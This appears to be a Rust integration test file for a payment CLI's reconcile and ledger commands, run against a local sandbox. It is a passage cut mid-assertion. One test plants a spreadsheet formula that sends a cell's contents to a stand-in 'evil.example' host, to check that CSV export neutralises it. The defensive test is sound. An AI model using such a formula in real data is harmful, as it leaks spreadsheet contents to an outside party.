//! `paybridge reconcile` and `paybridge ledger` against the sandbox: every
//! verdict from a merchant's CSV, a bad CSV refused before any query, a run
//! interrupted by Ctrl-C and resumed that asks each order once, a finished
//! `--state` run run again that asks every order again, the ledger's open
//! orders resolved, and a ledger run killed mid-run and resumed that asks
//! every order it did not record, on SQLite and PostgreSQL.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use std::sync::Arc;

use paybridge::ledger::{Ledger, LedgerState, Observation, OrderKey, Source, SqlLedger};
use paybridge::{Gateway, Money, OrderId, OrderKind};
use paybridge_cli::harness::{demo_config, myr_deposit, pay};
use paybridge_sandbox::faults::{FaultConfig, FaultKind, FaultRule};
use paybridge_sandbox::state::RequestCounts;
use paybridge_sandbox::{Sandbox, SandboxConfig};
use paybridge_testkit::postgres::TestPostgres;
use serde_json::Value;

async fn sandbox() -> Sandbox {
    Sandbox::start(SandboxConfig::default(), ([127, 0, 0, 1], 0).into())
        .await
        .unwrap()
}

/// A configuration for the sandbox's demo merchants (One1Pay at a closed
/// port, so its queries fail), with a ledger when `ledger` names one.
fn config_file(dir: &Path, sandbox: &Sandbox, ledger: Option<&str>) -> PathBuf {
    let base = sandbox.base_url();
    let mut text = format!(
        "[vpay88]\nbase_url = \"{base}/vpay88\"\nusername = \"demo\"\napi_key = \"demo-api-key\"\n\
         secret_key = \"demo-secret-key\"\n[one1pay]\nbase_url = \"http://127.0.0.1:9\"\n\
         username = \"demo\"\napi_key = \"demo-api-key\"\n[http]\nread_attempts = 1\n"
    );
    if let Some(url) = ledger {
        text.push_str(&format!("[ledger]\nurl = \"{url}\"\n"));
    }
    let path = dir.join("paybridge.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn paybridge(config: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_paybridge"));
    command
        .arg("--config")
        .arg(config)
        .args(args)
        .env_remove("PAYBRIDGE_PROVIDER")
        .env_remove("PAYBRIDGE_LEDGER_URL")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    command
}

/// Runs `paybridge` to its end and checks its exit code.
fn run(config: &Path, args: &[&str], code: i32) -> Output {
    let out = paybridge(config, args).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(code),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// Creates Vpay88 deposits in the sandbox through the SDK: `(id, amount, pressed)`,
/// `pressed` the payer's button, or `None` to leave it pending.
async fn deposits(sandbox: &Sandbox, orders: &[(&str, &str, Option<&str>)]) {
    let config = demo_config(&sandbox.base_url(), None).unwrap();
    let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88).unwrap();
    for (id, amount, pressed) in orders {
        let order = vpay
            .create_deposit(&myr_deposit(id, amount).unwrap())
            .await
            .unwrap();
        if let Some(button) = pressed {
            pay(&order.payment_url, button).await.unwrap();
        }
    }
}

/// `count` pending deposits `{prefix}-00`, `{prefix}-01`... created in the
/// sandbox, and the merchant's CSV of them, every one pending, in `dir`.
async fn pending_deposits(
    sandbox: &Sandbox,
    dir: &Path,
    prefix: &str,
    count: usize,
) -> (Vec<String>, PathBuf) {
    let ids: Vec<String> = (0..count).map(|n| format!("{prefix}-{n:02}")).collect();
    let orders: Vec<(&str, &str, Option<&str>)> =
        ids.iter().map(|id| (id.as_str(), "100", None)).collect();
    deposits(sandbox, &orders).await;
    let csv = dir.join("orders.csv");
    let mut text = "provider,kind,order_id,amount,currency,merchant_status\n".to_owned();
    for id in &ids {
        text.push_str(&format!("vpay88,deposit,{id},100,MYR,pending\n"));
    }
    std::fs::write(&csv, text).unwrap();
    (ids, csv)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_verdict_from_a_merchants_csv() {
    let sandbox = sandbox().await;
    deposits(
        &sandbox,
        &[
            ("R-ADV", "100", Some("completed")),
            ("R-SAME", "100", None),
            ("R-CONFLICT", "100", Some("fail")),
            ("R-AMOUNT", "100", None),
            ("R-CURRENCY", "100", None),
        ],
    )
    .await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    std::fs::write(
        &csv,
        "provider,kind,order_id,amount,currency,merchant_status\n\
         vpay88,deposit,R-ADV,100.00,MYR,pending\n\
         vpay88,deposit,R-SAME,100,MYR,pending\n\
         vpay88,deposit,R-CONFLICT,100,MYR,completed\n\
         vpay88,deposit,R-AMOUNT,250,MYR,pending\n\
         vpay88,deposit,R-CURRENCY,100,THB,pending\n\
         vpay88,deposit,R-NOBODY,100,MYR,pending\n\
         one1pay,withdrawal,R-DOWN,100,THB,processing\n",
    )
    .unwrap();
    let out = run(
        &config,
        &[
            "--output",
            "json",
            "reconcile",
            "--input",
            csv.to_str().unwrap(),
        ],
        6,
    );
    let report = json(&out);
    let mut verdicts: Vec<(&str, &str)> = report["orders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["order_id"].as_str().unwrap(),
                o["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    // Rows come as they are decided, in no set order: each order once.
    verdicts.sort();
    assert_eq!(
        verdicts,
        [
            ("R-ADV", "advanced"),
            ("R-AMOUNT", "amount_mismatch"),
            ("R-CONFLICT", "status_conflict"),
            ("R-CURRENCY", "currency_mismatch"),
            ("R-DOWN", "error"),
            // The sandbox refuses the query; no document says in what words a
            // provider answers for an order it does not hold, so that says nothing.
            ("R-NOBODY", "error"),
            ("R-SAME", "unchanged"),
        ]
    );
    let summary = &report["summary"];
    for (verdict, count) in [
        ("error", 2),
        ("amount_mismatch", 1),
        ("currency_mismatch", 1),
        ("unchanged", 1),
        ("advanced", 1),
        ("status_conflict", 1),
    ] {
        assert_eq!(summary[verdict], count, "{verdict}: {summary}");
    }
    // Table and CSV say the same; a clean run exits 0.
    let clean = dir.join("clean.csv");
    std::fs::write(
        &clean,
        "provider,kind,order_id,amount,currency\nvpay88,deposit,R-ADV,100,MYR\n",
    )
    .unwrap();
    let out = run(
        &config,
        &[
            "--output",
            "csv",
            "reconcile",
            "--input",
            clean.to_str().unwrap(),
        ],
        0,
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        text.lines().collect::<Vec<_>>(),
        [
            "order_id,provider,account,kind,merchant_status,provider_status,verdict,detail",
            "R-ADV,vpay88,,deposit,,completed,advanced,provider says completed",
        ]
    );
}

#[tokio::test]
async fn a_bad_csv_is_refused_naming_each_line_before_any_query() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-bad");
    let config = config_file(&dir, &sandbox, None);
    let cases = [
        (
            "provider,kind,order_id,amount,currency,merchant_stauts\nvpay88,deposit,A,1,MYR,pending\n",
            "unknown: merchant_stauts",
        ),
        ("provider,kind,order_id,amount\nvpay88,deposit,A,1\n", "missing: currency"),
        (
            "provider,kind,order_id,amount,currency\nvpay88,deposit,A,1,MYR\npaypal,deposit,B,1,MYR\n\
             vpay88,refund,C,1,MYR\nvpay88,deposit,D,ten,MYR\nvpay88,deposit,A,1,MYR\n",
            "line 3: configuration: `provider` 'paypal' is not one of",
        ),
    ];
    for (text, says) in cases {
        let csv = dir.join("orders.csv");
        std::fs::write(&csv, text).unwrap();
        let out = run(&config, &["reconcile", "--input", csv.to_str().unwrap()], 2);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(says), "{says:?} missing: {stderr}");
    }
    let csv = dir.join("orders.csv");
    let out = paybridge(&config, &["reconcile", "--input", csv.to_str().unwrap()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [
        "line 4: kind \"refund\" is neither deposit nor withdrawal",
        "line 5: invalid request: `amount`",
        "line 6: vpay88 deposit A is listed twice (first on line 2)",
    ] {
        assert!(stderr.contains(line), "{line:?} missing: {stderr}");
    }
    assert!(
        sandbox.status_requests().is_empty(),
        "nothing was queried: {:?}",
        sandbox.status_requests()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_interrupted_by_ctrl_c_and_resumed_asks_each_order_once() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-int");
    let config = config_file(&dir, &sandbox, None);
    let (ids, csv) = pending_deposits(&sandbox, &dir, "R-INT", 40).await;
    let state = dir.join("progress.jsonl");
    let args = [
        "--output",
        "json",
        "reconcile",
        "--input",
        csv.to_str().unwrap(),
        "--state",
        state.to_str().unwrap(),
        "--rate",
        "20",
        "--concurrency",
        "4",
    ];
    let first = paybridge(&config, &args).spawn().unwrap();
    let lines = |path: &Path| {
        std::fs::read_to_string(path)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    };
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    while lines(&state) < 10 {
        assert!(
            tokio::time::Instant::now() < deadline,
            "no progress recorded"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let interrupted = Command::new("kill")
        .args(["-INT", &first.id().to_string()])
        .status()
        .unwrap();
    assert!(interrupted.success());
    let out = first.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{stderr}");
    assert!(
        stderr.contains("run the same command again to resume"),
        "{stderr}"
    );
    // The file's first line is its marker; each other line one order's row.
    let done = lines(&state) - 1;
    assert!(done < ids.len(), "interrupted before the end ({done} done)");
    // What it printed is a whole document of the rows it recorded.
    let printed = json(&out);
    assert_eq!(printed["orders"].as_array().unwrap().len(), done);
    assert_eq!(printed["summary"]["unchanged"], done);

    let again = paybridge(&config, &args).output().unwrap();
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains(&format!("resuming, {done} of 40 orders already done")),
        "{stderr}"
    );
    let report = json(&again);
    assert_eq!(report["orders"].as_array().unwrap().len(), 40);
    assert_eq!(report["summary"]["unchanged"], 40);
    let counts = sandbox.status_requests();
    for id in &ids {
        let times = asked(&counts, id);
        assert_eq!(times, 1, "{id} asked {times} times");
    }
}

/// How many status queries `counts` holds for `order_id`.
fn asked(counts: &RequestCounts, order_id: &str) -> u32 {
    counts
        .iter()
        .filter(|((_, _, order), _)| order == order_id)
        .map(|(_, n)| *n)
        .sum()
}

/// Each order's `(verdict, provider_status)` in a JSON report, by order id.
fn verdicts(report: &Value) -> std::collections::BTreeMap<String, (String, String)> {
    report["orders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["order_id"].as_str().unwrap().to_owned(),
                (
                    o["verdict"].as_str().unwrap().to_owned(),
                    o["provider_status"].as_str().unwrap().to_owned(),
                ),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_finished_state_file_run_again_asks_every_order_again() {
    let sandbox = sandbox().await;
    let config = demo_config(&sandbox.base_url(), None).unwrap();
    let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88).unwrap();
    let order = vpay
        .create_deposit(&myr_deposit("R-AGAIN", "100").unwrap())
        .await
        .unwrap();
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-again");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    std::fs::write(
        &csv,
        "provider,kind,order_id,amount,currency,merchant_status\n\
         vpay88,deposit,R-AGAIN,100,MYR,pending\n",
    )
    .unwrap();
    let state = dir.join("progress.jsonl");
    let args = [
        "--output",
        "json",
        "reconcile",
        "--input",
        csv.to_str().unwrap(),
        "--state",
        state.to_str().unwrap(),
    ];
    let first = json(&run(&config, &args, 0));
    assert_eq!(
        verdicts(&first)["R-AGAIN"],
        ("unchanged".to_owned(), "pending".to_owned())
    );
    pay(&order.payment_url, "completed").await.unwrap();
    let again = run(&config, &args, 0);
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert!(!stderr.contains("resuming"), "{stderr}");
    assert_eq!(
        verdicts(&json(&again))["R-AGAIN"],
        ("advanced".to_owned(), "completed".to_owned()),
        "the status the provider holds now, not the first run's"
    );
    assert_eq!(asked(&sandbox.status_requests(), "R-AGAIN"), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_state_file_that_is_not_the_runs_own_is_refused_untouched_and_a_new_one_is_private() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-own");
    let config = config_file(&dir, &sandbox, None);
    let csv = dir.join("orders.csv");
    let orders = "provider,kind,order_id,amount,currency\nvpay88,deposit,R-OWN,100,MYR\n";
    std::fs::write(&csv, orders).unwrap();
    let other = dir.join("notes.txt");
    std::fs::write(&other, "my notes\n").unwrap();
    let args = |state: &Path| {
        ["reconcile", "--input", csv.to_str().unwrap(), "--state"]
            .into_iter()
            .map(str::to_owned)
            .chain([state.display().to_string()])
            .collect::<Vec<String>>()
    };
    let run_with = |state: &Path, code: i32| {
        let args = args(state);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        run(&config, &args, code)
    };
    for (state, says) in [
        (&csv, "is the --input file"),
        (&other, "is not a reconcile state file"),
    ] {
        let out = run_with(state, 2);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(says), "{stderr}");
        assert!(
            stderr.contains(state.to_str().unwrap()),
            "names the file: {stderr}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        orders,
        "left as it was"
    );
    assert_eq!(std::fs::read_to_string(&other).unwrap(), "my notes\n");

    let state = dir.join("progress.jsonl");
    // The order is unknown to the sandbox: a verdict to look into, exit 6.
    run_with(&state, 6);
    let text = std::fs::read_to_string(&state).unwrap();
    assert_eq!(
        text.lines().next(),
        Some(paybridge_cli::reconcile::STATE_MARKER),
        "{text}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&state).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", state.display());
    }
    // Its own file is taken again.
    run_with(&state, 6);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ledger_export_in_csv_neutralises_a_providers_formula() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-export-formula");
    let url = format!("sqlite://{}", dir.join("ledger.db").display());
    let ledger = SqlLedger::open(&url).await.unwrap();
    let key = OrderKey::new(
        paybridge::providers::VPAY88,
        None,
        OrderKind::Deposit,
        &OrderId::new("X-1").unwrap(),
    );
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    ledger
        .observe(
            &key,
            &Observation::new(Source::Status, LedgerState::Pending)
                .amount(Some(Money::parse("100", "MYR").unwrap()))
                .provider_status(formula)
                .detail("@SUM(1+1)"),
        )
        .await
        .unwrap();
    drop(ledger);
    let config = config_file(&dir, &sandbox, Some(&url));
    let out = run(&config, &["ledger", "export", "--format", "csv"], 0);
    let text = String::from_utf8(out.stdout).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("provider_status"), format!("'{formula}"), "{text}");
    assert_eq!(cell("amount"), "100", "{text}");
    assert!(
        !text.lines().any(|line| line
            .split(',')
            .any(|c| c.trim_start_matches('"').starts_with(['=', '@']))),
        "no cell starts a formula: {text}"
    );
}

/// A ledger run killed (SIGKILL) in the middle, every answer moving its order
/// to final, and each order's callback applied before it is resumed: the
/// resumed run reports each order of the run once, with the verdict on the
/// state the ledger held when the run began, and every order whose row the
/// killed run did not record is asked again (once), the others not.
async fn a_ledger_run_killed_and_resumed_asks_every_order_it_did_not_record(url: &str) {
    const ORDERS: usize = 120;
    let slow_status = SandboxConfig {
        faults: FaultConfig {
            rules: vec![FaultRule {
                provider: "vpay88".into(),
                endpoint: "check_status".into(),
                kind: FaultKind::Latency,
                percent: 100,
                latency_ms: 40,
            }],
            ..FaultConfig::default()
        },
        ..SandboxConfig::default()
    };
    let sandbox = Sandbox::start(slow_status, ([127, 0, 0, 1], 0).into())
        .await
        .unwrap();
    let ids: Vec<String> = (0..ORDERS).map(|n| format!("K-{n:03}")).collect();
    {
        let ledger = Arc::new(SqlLedger::open(url).await.unwrap());
        let config = demo_config(&sandbox.base_url(), None).unwrap();
        let vpay = Gateway::for_provider(&config, paybridge::providers::VPAY88)
            .unwrap()
            .with_ledger(ledger);
        for id in &ids {
            let order = vpay
                .create_deposit(&myr_deposit(id, "100").unwrap())
                .await
                .unwrap();
            pay(&order.payment_url, "completed").await.unwrap();
        }
    }
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-kill");
    let config = config_file(&dir, &sandbox, Some(url));
    let args = ["--output", "json", "reconcile", "--concurrency", "4"];
    let mut first = paybridge(&config, &args).spawn().unwrap();
    let total = |counts: &RequestCounts| counts.values().sum::<u32>();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    while total(&sandbox.status_requests()) < 40 {
        assert!(tokio::time::Instant::now() < deadline, "no query was sent");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    first.kill().unwrap();
    let killed = first.wait().unwrap();
    assert_eq!(killed.code(), None, "killed by a signal, not finished");
    let before = sandbox.status_requests();
    assert!(
        total(&before) < ORDERS as u32,
        "killed before the end ({} asked)",
        total(&before)
    );
    // While reconcile is down, the merchant's service applies each payment's callback.
    let ledger = SqlLedger::open(url).await.unwrap();
    for id in &ids {
        let key = OrderKey::new(
            paybridge::providers::VPAY88,
            None,
            OrderKind::Deposit,
            &OrderId::new(id).unwrap(),
        );
        let paid = Observation::new(Source::Callback, LedgerState::Completed)
            .provider_status("completed")
            .amount(Some(Money::parse("100", "MYR").unwrap()));
        ledger.observe(&key, &paid).await.unwrap();
    }
    drop(ledger);

    let again = paybridge(&config, &args).output().unwrap();
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(0), "{stderr}");
    let recorded: usize = stderr
        .split("resuming, ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("not resumed: {stderr}"));
    let report = json(&again);
    let rows = verdicts(&report);
    assert_eq!(rows.len(), ORDERS, "every order of the run reported once");
    let after = sandbox.status_requests();
    let mut asked_again = 0;
    for id in &ids {
        assert_eq!(
            rows[id],
            ("advanced".to_owned(), "completed".to_owned()),
            "{id}"
        );
        let first_run = asked(&before, id);
        let second_run = asked(&after, id) - first_run;
        assert!(second_run <= 1, "{id} asked {second_run} times on resuming");
        assert!(
            first_run + second_run >= 1,
            "{id} reported without being asked"
        );
        asked_again += second_run as usize;
    }
    assert_eq!(
        asked_again,
        ORDERS - recorded,
        "exactly the orders not recorded were asked again"
    );
    // The run finished: the next one starts afresh, and nothing is open.
    let out = run(&config, &args, 0);
    assert_eq!(json(&out)["orders"].as_array().unwrap().len(), 0);
}

/// The ledger's open orders resolved by `paybridge reconcile` (no --input),
/// then listed and exported.
async fn the_ledgers_open_orders_are_resolved_listed_and_exported(url: &str) {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-ledger");
    let config = config_file(&dir, &sandbox, Some(url));
    let create = |id: &str| {
        let words = "--provider vpay88 --output json deposit create --amount 100 --currency MYR \
                     --customer john --email john@example.com --phone 601012456789 --order-id";
        let mut args: Vec<&str> = words.split_whitespace().collect();
        args.push(id);
        paybridge(&config, &args).output().unwrap()
    };
    for id in ["L-PAID", "L-OPEN"] {
        let out = create(id);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        if id == "L-PAID" {
            let url = json(&out)["payment_url"].as_str().unwrap().to_owned();
            pay(&url, "completed").await.unwrap();
        }
    }
    let listed = |state: &str| {
        let out = run(
            &config,
            &["--output", "json", "ledger", "list", "--state", state],
            0,
        );
        let mut ids: Vec<String> = json(&out)
            .as_array()
            .unwrap()
            .iter()
            .map(|o| {
                format!(
                    "{} {}",
                    o["order_id"].as_str().unwrap(),
                    o["state"].as_str().unwrap()
                )
            })
            .collect();
        ids.sort();
        ids
    };
    assert_eq!(listed("open"), ["L-OPEN pending", "L-PAID pending"]);
    let out = run(
        &config,
        &["--output", "json", "reconcile", "--provider", "vpay88"],
        0,
    );
    assert_eq!(json(&out)["summary"]["advanced"], 1);
    assert_eq!(listed("open"), ["L-OPEN pending"]);
    assert_eq!(listed("final"), ["L-PAID completed"]);
    let later = run(
        &config,
        &[
            "--output",
            "json",
            "ledger",
            "list",
            "--since",
            "2999-01-01",
        ],
        0,
    );
    assert_eq!(
        json(&later),
        serde_json::json!([]),
        "nothing changed after 2999"
    );
    let bad = run(&config, &["ledger", "list", "--since", "yesterday"], 2);
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("neither RFC 3339"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
    // A second run starts afresh (the first finished) and asks only what is open.
    let out = paybridge(&config, &["--output", "json", "reconcile"])
        .output()
        .unwrap();
    assert_eq!(json(&out)["orders"].as_array().unwrap().len(), 1);
    let export = paybridge(&config, &["ledger", "export", "--format", "csv"])
        .output()
        .unwrap();
    let text = String::from_utf8(export.stdout).unwrap();
    let header = text.lines().next().unwrap();
    assert_eq!(
        header,
        "provider,account,kind,order_id,amount,currency,state,provider_status,provider_ref,conflict,created_at,updated_at"
    );
    assert_eq!(text.lines().count(), 3, "{text}");
    assert!(
        text.contains(",L-PAID,100,MYR,completed,completed,"),
        "{text}"
    );
}

/// A module `$name` running `$test` on a SQLite file and on PostgreSQL.
macro_rules! on_sqlite_and_postgres {
    ($name:ident, $test:ident) => {
        mod $name {
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                let dir =
                    paybridge_testkit::temp_dir(concat!("paybridge-reconcile-", stringify!($name)));
                let url = format!("sqlite://{}", dir.join("ledger.db").display());
                super::$test(&url).await;
            }

            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                let name = concat!("reconcile::", stringify!($name), "::postgres");
                if let Some(server) = super::TestPostgres::start(name) {
                    super::$test(&server.url()).await;
                }
            }
        }
    };
}

on_sqlite_and_postgres!(
    killed,
    a_ledger_run_killed_and_resumed_asks_every_order_it_did_not_record
);
on_sqlite_and_postgres!(
    ledger,
    the_ledgers_open_orders_are_resolved_listed_and_exported
);

/// Records, as each row is handed over, how many status queries the sandbox
/// had received by then.
struct Asked<'a> {
    sandbox: &'a Sandbox,
    rows: Vec<(String, u32)>,
}

impl paybridge_cli::reconcile::Rows for Asked<'_> {
    fn row(&mut self, row: &paybridge_cli::reconcile::Row) -> std::io::Result<()> {
        let asked = self.sandbox.status_requests().values().sum();
        self.rows.push((row.order_id.clone(), asked));
        Ok(())
    }
}

/// One query at a time: each row reaches the run's writer as soon as its
/// order is decided, before the next order is asked, so a row is out while
/// the run still has orders ahead of it (and none is held back for the end).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_row_is_handed_over_as_it_is_decided() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-stream");
    let config = paybridge::Config::load(&config_file(&dir, &sandbox, None)).unwrap();
    let (ids, csv) = pending_deposits(&sandbox, &dir, "S", 12).await;
    let options = paybridge_cli::reconcile::Options {
        input: Some(csv),
        concurrency: 1,
        rate: None,
        state: None,
        progress: false,
    };
    let mut asked = Asked {
        sandbox: &sandbox,
        rows: Vec::new(),
    };
    let report = paybridge_cli::reconcile::run(&config, &options, &mut asked)
        .await
        .unwrap();
    assert_eq!(report.reported, ids.len());
    assert_eq!(report.summary()[4], ("unchanged", ids.len()));
    let expected: Vec<(String, u32)> = ids.iter().cloned().zip(1..).collect();
    assert_eq!(asked.rows, expected);
}

/// A server in front of the sandbox that holds the status query of
/// `held_order` until the test gives it a permit.
async fn holding_proxy(
    sandbox: &Sandbox,
    held_order: &'static str,
) -> (String, Arc<tokio::sync::Semaphore>) {
    let gate = Arc::new(tokio::sync::Semaphore::new(0));
    let upstream = sandbox.base_url();
    let client = reqwest::Client::new();
    let held = gate.clone();
    let app = axum::Router::new().fallback(move |request: axum::extract::Request| {
        let (upstream, client, held) = (upstream.clone(), client.clone(), held.clone());
        async move {
            let (parts, body) = request.into_parts();
            let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
            if String::from_utf8_lossy(&body).contains(held_order) {
                held.acquire().await.unwrap().forget();
            }
            let mut forwarded = client.request(parts.method, format!("{upstream}{}", parts.uri));
            if let Some(kind) = parts.headers.get("content-type") {
                forwarded = forwarded.header("content-type", kind);
            }
            let answer = forwarded.body(body).send().await.unwrap();
            let status = answer.status();
            (status, answer.bytes().await.unwrap())
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, gate)
}

/// The command prints each row as it is decided, in every format: the first
/// order's row is on its stdout while the second order's query is still held
/// by the server, so before the run can end; the summary comes last.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_command_prints_each_row_before_the_run_ends_in_every_format() {
    let sandbox = sandbox().await;
    deposits(
        &sandbox,
        &[("W-FIRST", "100", None), ("W-HELD", "100", None)],
    )
    .await;
    let (proxy, gate) = holding_proxy(&sandbox, "W-HELD").await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-print");
    let config = dir.join("paybridge.toml");
    std::fs::write(
        &config,
        format!(
            "[vpay88]\nbase_url = \"{proxy}/vpay88\"\nusername = \"demo\"\n\
             api_key = \"demo-api-key\"\nsecret_key = \"demo-secret-key\"\n"
        ),
    )
    .unwrap();
    let csv = dir.join("orders.csv");
    std::fs::write(
        &csv,
        "provider,kind,order_id,amount,currency,merchant_status\n\
         vpay88,deposit,W-FIRST,100,MYR,pending\nvpay88,deposit,W-HELD,100,MYR,pending\n",
    )
    .unwrap();
    for format in ["json", "csv", "table"] {
        let args = [
            "--output",
            format,
            "reconcile",
            "--concurrency",
            "1",
            "--input",
            csv.to_str().unwrap(),
        ];
        let mut child = paybridge(&config, &args).spawn().unwrap();
        let stdout = child.stdout.take().unwrap();
        // Lines as they come, read on a thread of their own.
        let (tx, lines) = std::sync::mpsc::channel::<String>();
        let reader = std::thread::spawn(move || {
            use std::io::BufRead;
            for line in std::io::BufReader::new(stdout).lines() {
                if tx.send(line.unwrap()).is_err() {
                    break;
                }
            }
        });
        let mut seen = Vec::new();
        while !seen.iter().any(|line: &String| line.contains("W-FIRST")) {
            seen.push(
                lines
                    .recv()
                    .unwrap_or_else(|_| panic!("{format}: no row: {seen:?}")),
            );
        }
        assert!(
            child.try_wait().unwrap().is_none(),
            "{format}: still running, its second query held"
        );
        assert!(
            !seen.iter().any(|line| line.contains("W-HELD")),
            "{format}: {seen:?}"
        );
        gate.add_permits(1);
        let status = child.wait().unwrap();
        reader.join().unwrap();
        seen.extend(lines.try_iter());
        assert_eq!(status.code(), Some(0), "{format}: {seen:?}");
        let text = seen.join("\n");
        let held = text.find("W-HELD").unwrap_or_else(|| panic!("{text}"));
        match format {
            "json" => {
                let report: Value = serde_json::from_str(&text).unwrap();
                assert_eq!(report["summary"]["unchanged"], 2, "{text}");
                assert_eq!(report["orders"].as_array().unwrap().len(), 2, "{text}");
                assert!(text.find("\"summary\"").unwrap() > held, "{text}");
            }
            "table" => assert!(text.rfind("\nunchanged ").unwrap() > held, "{text}"),
            _ => assert_eq!(seen.len(), 3, "a header and two rows: {text}"),
        }
    }
}

/// Many more orders than the check holds in memory at once (it hands keys to
/// a table on disk a batch at a time): an order listed again thousands of
/// lines later is named with both lines, and past ten bad lines the rest are
/// counted, the first ten named in line order; nothing is asked.
#[tokio::test]
async fn a_duplicate_thousands_of_lines_apart_is_named_with_both_lines() {
    let sandbox = sandbox().await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-many");
    let config = config_file(&dir, &sandbox, None);
    const ORDERS: usize = 20_000;
    let mut text = "provider,kind,order_id,amount,currency\n".to_owned();
    for n in 0..ORDERS {
        text.push_str(&format!("vpay88,deposit,M-{n:05},100,MYR\n"));
    }
    // Line 2 holds M-00000; the file's last line, ORDERS + 2, lists it again.
    text.push_str("vpay88,deposit,M-00000,100,MYR\n");
    let csv = dir.join("orders.csv");
    std::fs::write(&csv, &text).unwrap();
    let out = run(&config, &["reconcile", "--input", csv.to_str().unwrap()], 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let last = ORDERS + 2;
    assert!(
        stderr.contains(&format!(
            "line {last}: vpay88 deposit M-00000 is listed twice (first on line 2)"
        )),
        "{stderr}"
    );
    // Thirty bad lines, the first ten named, then duplicates of each other
    // in between them: every one after the first ten is counted, not named.
    let mut text = "provider,kind,order_id,amount,currency\n".to_owned();
    for n in 0..ORDERS {
        if n % 700 == 699 {
            text.push_str("vpay88,deposit,M-00001,100,MYR\n");
        } else {
            text.push_str(&format!("vpay88,deposit,M-{n:05},100,MYR\n"));
        }
    }
    std::fs::write(&csv, &text).unwrap();
    let out = run(&config, &["reconcile", "--input", csv.to_str().unwrap()], 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let bad: Vec<usize> = (0..ORDERS)
        .filter(|n| n % 700 == 699)
        .map(|n| n + 2)
        .collect();
    assert_eq!(bad.len(), 28);
    for line in &bad[..10] {
        assert!(
